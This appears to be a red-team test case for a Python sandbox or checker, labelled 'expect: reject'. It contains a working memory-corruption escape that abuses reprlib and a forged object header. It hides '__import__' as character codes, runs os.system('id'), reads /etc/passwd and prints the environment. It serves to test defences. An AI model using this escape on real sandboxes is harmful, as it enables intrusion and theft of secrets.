# expect: reject memory
# line: 31
# why: round 97b (red team): an empty class named list whose __len__ and __iter__ come from a mixin; reprlib's repr_list ran the mixin's __iter__ inside a Future's repr: where a class is named like a Repr dispatch, the dunders it calls are text hooks in every class
import asyncio

L = []
GBUF = bytearray(1)


def q(v):
    return v.to_bytes(8, "little")


class Fake:
    def __repr__(self):
        raise ValueError(self)


def g():
    return 0


HDR = q(1 << 40) + q(id(Fake))


class Mix:
    def __len__(self):
        return 0

    def __iter__(self):
        global GBUF
        L.clear()
        GBUF = bytearray(95)
        GBUF[0:16] = HDR
        return iter(())


def make():
    class list(Mix):
        pass

    return list()


async def main():
    fut = asyncio.Future()
    fut.set_result(make())
    return fut


FUT = asyncio.run(main())
n = 40
L.append(slice(FUT, "q" * n))
try:
    text = repr(L)
    mem = None
except ValueError as e:
    mem = e.args[0]
GBUF[8:48] = q(id(list)) + q(2) + q(id(g) + 16) + q(2) + q(0)
bt = mem[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
